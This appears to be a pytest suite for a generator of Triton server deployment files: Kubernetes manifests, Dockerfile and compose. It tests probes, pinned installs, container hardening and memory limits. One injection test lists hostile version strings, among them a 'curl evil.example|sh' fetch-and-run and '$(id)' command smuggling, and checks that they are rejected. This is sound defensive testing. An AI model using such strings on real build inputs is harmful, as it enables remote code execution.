"""Deployment files: valid for Kubernetes, true of what was shipped."""

from __future__ import annotations

import json
import re
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import kubernetes_validate
import pytest
import yaml

from exporter.errors import InputError
from exporter.serving.triton.config import FILE, encoder_config, ensemble_config, to_text
from exporter.serving.triton.deployment import (
    ADMIN_VARIABLE,
    Deployed,
    compose,
    deployed,
    dockerfile,
    dockerignore,
    probe_command,
    server_arguments,
    stored_bytes,
    wheel,
)
from exporter.serving.triton.facts import Options, served
from exporter.serving.triton.images import Image
from exporter.serving.triton.kubernetes import (
    CLIENT_LABEL,
    QUEUE_METRIC,
    kubernetes,
    models_tag,
    prometheus_adapter,
)
from exporter.serving.triton.memory import FILE as MEMORY
from exporter.serving.triton.memory import Loaded, write_peak
from exporter.serving.triton.readme import readme
from tests.support.deployment_files import KINDS, files_of, peak
from tests.support.process import run_program
from tests.support.served_bundles import bundle_of

CPU = Options(runtime="python")
IMAGE = Image("25.12")
GPU = Options(gpus=(0,), response_cache=True)


def model(
    backend: str = "onnxruntime",
    options: Options = CPU,
    tools: dict[str, str] | None = None,
    loaded: tuple[Loaded, ...] = (),
) -> Deployed:
    bundle = bundle_of(backend)
    bundle.manifest.tools.update(tools or {})
    one = served(bundle, options)
    return Deployed((ensemble_config(one, options, 1, one.texts[0]),), encoder_config(one, options), loaded)


def documents(options: Options) -> dict[str, dict[str, Any]]:
    return documents_of([model(options=options)])


def documents_of(models: list[Deployed], stored_bytes: int = 0) -> dict[str, dict[str, Any]]:
    return {one["kind"]: one for one in yaml.safe_load_all(kubernetes(models, IMAGE, stored_bytes))}


@pytest.mark.parametrize("options", [CPU, GPU], ids=["cpu", "gpu"])
@pytest.mark.parametrize("version", ["1.31", "1.34"])
def test_kubernetes_accepts_the_manifest(options: Options, version: str) -> None:
    found = documents(options)
    assert found.keys() == {
        "Namespace",
        "ServiceAccount",
        "Deployment",
        "Service",
        "NetworkPolicy",
        "PodDisruptionBudget",
        "HorizontalPodAutoscaler",
    }
    for document in found.values():
        kubernetes_validate.validate(document, version, strict=True)


def test_the_schema_would_refuse_a_misspelt_field() -> None:
    deployment = documents(CPU)["Deployment"]
    deployment["spec"]["template"]["spec"]["containers"][0]["readinesProbe"] = {}
    with pytest.raises(kubernetes_validate.ValidationError):
        kubernetes_validate.validate(deployment, "1.34", strict=True)


def test_probes_ask_triton_and_the_autoscaler_its_queues() -> None:
    found = documents(CPU)
    (container,) = found["Deployment"]["spec"]["template"]["spec"]["containers"]
    assert container["startupProbe"]["httpGet"]["path"] == "/v2/health/ready"
    asked = ["sh", "-c", probe_command([model()])]
    assert container["readinessProbe"]["exec"]["command"] == container["livenessProbe"]["exec"]["command"] == asked
    (_, check) = yaml.safe_load(compose([model()]))["services"]["triton"]["healthcheck"]["test"]
    assert check.replace("$$", "$") == asked[2]
    (metric,) = found["HorizontalPodAutoscaler"]["spec"]["metrics"]
    assert metric["pods"]["metric"]["name"] == QUEUE_METRIC
    (rule,) = yaml.safe_load(prometheus_adapter())["rules"]["custom"]
    assert rule["name"]["as"] == QUEUE_METRIC
    assert "nv_inference_queue_duration_us" in rule["metricsQuery"]
    names = {found["Deployment"]["metadata"]["name"], found["Service"]["metadata"]["name"]}
    assert {found["HorizontalPodAutoscaler"]["spec"]["scaleTargetRef"]["name"]} == names


def test_docker_asks_every_model_for_a_vector_as_kubernetes_does() -> None:
    models = [model(), model("openvino")]
    (health,) = re.findall(r"^HEALTHCHECK (.*) \\\n    CMD (.*)$", dockerfile(models, IMAGE), re.MULTILINE)
    options, command = health
    assert json.loads(command) == ["sh", "-c", probe_command(models)]
    assert options == "--interval=10s --timeout=90s --start-period=120s --retries=3"
    (container,) = pod_of(models)["containers"]
    assert container["livenessProbe"]["timeoutSeconds"] == 90


@pytest.mark.parametrize(
    "failing", ["", "/v2/models/demo_tokenizer/ready", "/v2/models/demo/ready", "/v2/models/demo_text/infer"]
)
def test_the_probe_fails_where_a_model_does_not_answer(failing: str) -> None:
    asked: dict[str, bytes] = {}

    class Triton(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked[self.path] = self.rfile.read(int(self.headers["Content-Length"] or 0))
            self.send_response(500 if self.path == failing else 200)
            self.end_headers()

        def do_POST(self) -> None:
            self.do_GET()

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Triton) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        done = run_program(["sh", "-c", probe_command([model()], server.server_port)])
        server.shutdown()
        thread.join()
    assert (done.status, done.stderr) == (1 if failing else 0, "")
    assert failing in {"", *asked}
    if not failing:
        (text,) = json.loads(asked["/v2/models/demo_text/infer"])["inputs"]
        assert (text["name"], text["shape"], text["datatype"]) == ("text", [1, 1], "BYTES")
        assert text["data"][0].isdecimal()
        assert len(asked) == 3


def test_a_gpu_is_asked_for_where_a_model_needs_one() -> None:
    def limits(options: Options) -> dict[str, Any]:
        (container,) = documents(options)["Deployment"]["spec"]["template"]["spec"]["containers"]
        return dict(container["resources"]["limits"])

    assert "nvidia.com/gpu" not in limits(CPU)
    assert limits(GPU)["nvidia.com/gpu"] == 1
    assert "deploy" not in yaml.safe_load(compose([model()]))["services"]["triton"]
    devices = yaml.safe_load(compose([model(options=GPU)]))["services"]["triton"]["deploy"]["resources"]
    assert devices["reservations"]["devices"][0]["capabilities"] == ["gpu"]


def test_the_image_is_everywhere_the_one_asked_for() -> None:
    image = Image("26.03", "sha256:" + "0" * 64)
    assert f"ARG TRITON_IMAGE={image.reference}\n" in dockerfile([model()], image)
    assert "korsbert-triton:26.03" in kubernetes([model()], image, 0)
    assert f"imagetools inspect {image.reference}" in readme([model()], image)


def installed(*models: Deployed) -> list[str]:
    """Return what the Dockerfile has pip install."""
    return re.findall(r"^    '(.*)'", dockerfile(models, IMAGE), re.MULTILINE)


def test_korsbert_is_installed_from_a_wheel_and_never_from_an_index() -> None:
    for one in (model(), model(options=Options()), model("openvino"), model("tensorrt", options=GPU)):
        korsbert, *others = installed(one)
        assert korsbert.startswith(f"/tmp/{wheel()}[")
        assert not any(package.startswith("korsbert") for package in others)
        assert f"COPY {wheel()} /tmp/\n" in dockerfile([one], IMAGE)
        assert f"!{wheel()}\n" in dockerignore()


@pytest.mark.parametrize(
    ("one", "extras"),
    [
        (model(), "cpu,triton"),
        (model(options=Options()), "cpu,triton"),
        (model("openvino"), "openvino,triton"),
        (model(options=Options(runtime="python", gpus=(0,))), "gpu,triton"),
        (model("tensorrt", options=GPU), "triton"),
    ],
)
def test_the_image_has_what_the_models_and_the_check_import(one: Deployed, extras: str) -> None:
    korsbert, tokenizers = installed(one)
    assert korsbert.endswith(f"[{extras}]")
    assert re.fullmatch(r"tokenizers==[\d.]+", tokenizers)


def test_the_library_of_an_engine_is_the_one_that_passed_the_gate() -> None:
    tools = {"onnxruntime": "1.30.1", "onnxruntime-gpu": "1.29.0", "openvino": "2026.4.1", "torch": "2.13.0"}
    assert installed(model(tools=tools))[2:] == ["onnxruntime==1.30.1"]
    assert installed(model("openvino", tools=tools))[2:] == ["openvino==2026.4.1"]
    on_gpu = Options(runtime="python", gpus=(0,))
    assert installed(model(options=on_gpu, tools=tools))[2:] == ["onnxruntime-gpu==1.29.0"]
    newer = model(tools={"onnxruntime": "1.31.0"})
    assert installed(model(tools=tools), newer, model("openvino", tools=tools))[2:] == [
        "onnxruntime==1.31.0",
        "openvino==2026.4.1",
    ]


@pytest.mark.parametrize(
    "version", ["1.30.1' && curl evil.example|sh #", "1.30.1\nUSER root", "$(id)", "", "latest", "1.30.1; id"]
)
def test_a_version_that_a_shell_would_run_reaches_no_file(version: str) -> None:
    assert len(installed(model(tools={"onnxruntime": version}))) == 2
    stated = model()
    stated.encoder.parameters["korsbert_engine_package"].string_value = f"onnxruntime=={version}"
    with pytest.raises(InputError, match=r"korsbert_engine_package is .* no package at a version"):
        installed(stated)


@pytest.mark.parametrize("kind", KINDS)
def test_hadolint_has_no_objection(kind: str, tmp_path: Path) -> None:
    assert hadolint(files_of(kind)["Dockerfile"], tmp_path) == (0, "")


def test_hadolint_would_object_to_a_package_without_a_version(tmp_path: Path) -> None:
    loose = files_of("cpu-python")["Dockerfile"].replace("'onnxruntime==", "requests 'onnxruntime==")
    status, told = hadolint(loose, tmp_path)
    assert status == 1
    assert "DL3013" in told


def hadolint(dockerfile: str, folder: Path) -> tuple[int, str]:
    """Return the exit code of hadolint, with all its rules, and its objections."""
    (folder / "Dockerfile").write_text(dockerfile, encoding="utf-8")
    program = Path(sys.executable).with_name("hadolint")
    options = ("--disable-ignore-pragma", "--failure-threshold", "style")
    done = run_program([program, *options, "Dockerfile"], cwd=folder)
    return done.status, done.stdout


def test_the_container_can_neither_write_nor_gain_rights() -> None:
    (container,) = pod(CPU)["containers"]
    (first,) = pod(CPU)["initContainers"]
    for one in (container, first):
        confined = one["securityContext"]
        assert (confined["allowPrivilegeEscalation"], confined["readOnlyRootFilesystem"]) == (False, True)
        assert (confined["runAsNonRoot"], confined["capabilities"]) == (True, {"drop": ["ALL"]})
    assert pod(CPU)["automountServiceAccountToken"] is False
    assert pod(CPU)["securityContext"]["seccompProfile"] == {"type": "RuntimeDefault"}
    mounts = {mount["name"]: mount for mount in container["volumeMounts"]}
    assert mounts["models"]["readOnly"]
    assert mounts["scratch"]["mountPath"] == "/tmp"
    service = yaml.safe_load(compose([model()]))["services"]["triton"]
    assert (service["read_only"], service["cap_drop"], service["user"]) == (True, ["ALL"], "1000:1000")
    assert service["security_opt"] == ["no-new-privileges:true"]
    assert all(port.startswith("127.0.0.1:") for port in service["ports"])
    assert service["volumes"] == [".:/models:ro"]


def test_something_brings_the_models_and_verifies_them() -> None:
    (first,) = pod(CPU)["initContainers"]
    assert first["image"].endswith(f"/korsbert-models:{models_tag([model()])}")
    assert first["command"][-1] == "cp -r /source/. /models && korsbert check /models"
    assert "FROM server AS models\nCOPY . /source\n" in dockerfile([model()], IMAGE)
    assert models_tag([model(options=GPU)]) != models_tag([model()])


def test_only_a_server_that_cannot_write_to_its_models_polls() -> None:
    (container,) = pod(CPU)["containers"]
    assert "--model-control-mode=none" in container["args"]
    assert "--model-control-mode=poll" in yaml.safe_load(compose([model()]))["services"]["triton"]["command"]


def test_the_apis_that_nobody_needs_want_a_secret() -> None:
    (container,) = pod(CPU)["containers"]
    kept = "model-repository,shared-memory,trace,logging:triton-admin="
    for option in ("--http-restricted-api=", "--grpc-restricted-protocol="):
        assert f"{option}{kept}$({ADMIN_VARIABLE})" in container["args"]
        command = yaml.safe_load(compose([model()]))["services"]["triton"]["command"]
        assert any(argument.startswith(f"{option}{kept}${{{ADMIN_VARIABLE}:?") for argument in command)
    assert {variable["name"] for variable in container["env"]} >= {ADMIN_VARIABLE}


def test_only_clients_and_the_monitoring_reach_the_server_which_reaches_nothing() -> None:
    policy = documents(CPU)["NetworkPolicy"]["spec"]
    requests, metrics = policy["ingress"]
    assert requests["from"][0]["podSelector"]["matchLabels"] == CLIENT_LABEL
    assert [port["port"] for port in requests["ports"]] == [8000, 8001]
    assert [port["port"] for port in metrics["ports"]] == [8002]
    assert (policy["policyTypes"], policy["egress"]) == (["Ingress", "Egress"], [])


GIB = 2**30


@pytest.mark.parametrize(
    ("loaded", "instances", "gib"),
    [
        ((), 1, 3),
        ((Loaded(1, GIB // 2),), 1, 5),  # three times its files
        ((Loaded(1, 2 * GIB),), 2, 15),
        ((Loaded(1, 0, peak(4 * GIB)),), 1, 8),  # a quarter more than was measured
        ((Loaded(1, 9 * GIB, peak(4 * GIB)),), 2, 13),
        ((Loaded(1, GIB), Loaded(2, GIB, peak(4 * GIB))), 1, 11),
    ],
)
def test_the_memory_is_that_of_the_server_and_of_each_instance(
    loaded: tuple[Loaded, ...], instances: int, gib: int
) -> None:
    options = Options(runtime="python", instances=instances)
    (container,) = pod_of([model(options=options, loaded=loaded)])["containers"]
    assert container["resources"]["limits"] == {"memory": f"{gib}Gi"}
    assert container["resources"]["requests"]["memory"] == f"{gib}Gi"


def test_the_files_say_which_memory_was_measured() -> None:
    models = [model(loaded=(Loaded(3, GIB), Loaded(4, GIB, peak(500 * 2**20 + 1))))]
    computed = "demo: version 3 computed, 3 times the size of its files"
    measured = "demo: version 4 measured, 501 MiB for 64 rows of 256 tokens, plus 25%"
    deployment = documents_of(models)["Deployment"]
    assert deployment["metadata"]["annotations"]["korsbert-memory"] == f"{computed}; {measured}"
    assert f"  - {computed}\n  - {measured}\n" in readme(models, IMAGE)


@pytest.mark.parametrize(("stored_bytes", "gib"), [(0, 1), (1, 2), (2**30, 2), (5 * 2**30 + 1, 7)])
def test_the_volume_holds_the_whole_repository(stored_bytes: int, gib: int) -> None:
    (models,) = [volume for volume in pod_of([model()], stored_bytes)["volumes"] if volume["name"] == "models"]
    assert models["emptyDir"] == {"sizeLimit": f"{gib}Gi"}


def pod(options: Options) -> dict[str, Any]:
    return pod_of([model(options=options)])


def pod_of(models: list[Deployed], stored_bytes: int = 0) -> dict[str, Any]:
    return dict(documents_of(models, stored_bytes)["Deployment"]["spec"]["template"]["spec"])


def test_the_latest_two_versions_are_loaded_and_all_are_stored(tmp_path: Path) -> None:
    one = model()
    for config in (one.ensemble, one.encoder):
        (tmp_path / config.name).mkdir()
        (tmp_path / config.name / FILE).write_text(to_text(config))
    sizes = {"demo/1/model.onnx": 1000, "demo/9/model.onnx": 300, "demo/10/bundle/model.onnx": 20, "theirs/1/model": 4}
    for file, size in sizes.items():
        (tmp_path / file).parent.mkdir(parents=True)
        (tmp_path / file).write_bytes(bytes(size))
    write_peak(tmp_path / "demo" / "10", peak(GIB))
    (found,) = deployed(tmp_path)
    written = (tmp_path / "demo" / "10" / MEMORY).stat().st_size
    assert found.loaded == (Loaded(9, 300), Loaded(10, 20 + written, peak(GIB)))
    texts = sum((tmp_path / config.name / FILE).stat().st_size for config in (one.ensemble, one.encoder))
    assert stored_bytes(tmp_path) == 1324 + written + texts


def test_the_readme_names_what_the_files_name() -> None:
    told = readme([model()], IMAGE)
    for name in (
        wheel(),
        models_tag([model()]),
        ADMIN_VARIABLE,
        "korsbert-triton-client: true",
        "prometheus-adapter.yaml",
    ):
        assert name in told
    assert "perf_analyzer -m demo_text -i grpc -u localhost:8001 \\\n        --shape text:1 --string-data " in told


def test_a_response_cache_is_switched_on_at_the_server_too() -> None:
    assert not any("cache" in argument for argument in server_arguments([model()], polls=True))
    assert any(
        argument.startswith("--cache-config=local,size=")
        for argument in server_arguments([model(options=GPU)], polls=False)
    )


def test_models_of_others_are_passed_over(tmp_path: Path) -> None:
    (tmp_path / "theirs" / "1").mkdir(parents=True)
    (tmp_path / "theirs" / "config.pbtxt").write_text('backend: "python"')
    (tmp_path / "broken").mkdir()
    assert deployed(tmp_path) == []
